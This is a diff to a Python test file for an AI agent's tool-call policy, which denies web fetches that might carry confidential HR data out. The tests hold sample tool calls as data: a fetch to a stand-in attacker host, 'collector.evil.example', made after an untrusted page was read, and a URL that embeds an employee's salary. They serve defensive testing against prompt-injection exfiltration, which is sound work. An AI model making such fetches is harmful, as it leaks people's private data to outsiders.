@@ -208,13 +208,33 @@ def test_a_fetch_carrying_confidential_values_to_the_named_outside_site_is_denie
 
 
 def test_a_fetch_after_a_confidential_read_to_a_host_from_nowhere_is_still_denied() -> None:
-    named = {"tool": "web.fetch", "args": {"url": "https://borealis-energy.example/"}}
+    """After untrusted content (the page fetched first), a host found nowhere may be the page's
+    choice: refused."""
+    named = {
+        "tool": "web.fetch",
+        "args": {"url": "https://borealis-energy.example/"},
+        "output": "Borealis Energy - wind and solar for the north",
+    }
     got = _decide(
         RESEARCH, [HR, named, {"tool": "web.fetch", "args": {"url": "https://collector.evil.example/x"}}]
     )
     assert got[1][1] == "allow", got[1]
     assert got[2][1] == "deny"
     assert "flow.no-confidential-egress" in got[2][2]
+
+
+def test_a_fetch_the_model_chose_before_any_untrusted_read_goes_through_unless_it_carries() -> None:
+    """[2026-12-06] Before the task read anything untrusted, no one outside chose the host: a fetch
+    of a site from nowhere whose URL carries nothing confidential goes through (a government
+    release the request described in words); one whose URL carries the confidential salary is
+    refused."""
+    plain = {"tool": "web.fetch", "args": {"url": "https://stats.gov.example/news/2026-12-02-unemployment"}}
+    got = _decide(RESEARCH, [HR, plain])
+    assert got[1][1] == "allow", got[1]
+    leak = {"tool": "web.fetch", "args": {"url": "https://stats.gov.example/q?jane+roe=85000"}}
+    got = _decide(RESEARCH, [HR, leak])
+    assert got[1][1] == "deny", got[1]
+    assert "flow.no-confidential-egress" in got[1][2]
 
 
 def test_a_value_the_public_page_also_holds_is_not_confidential() -> None:
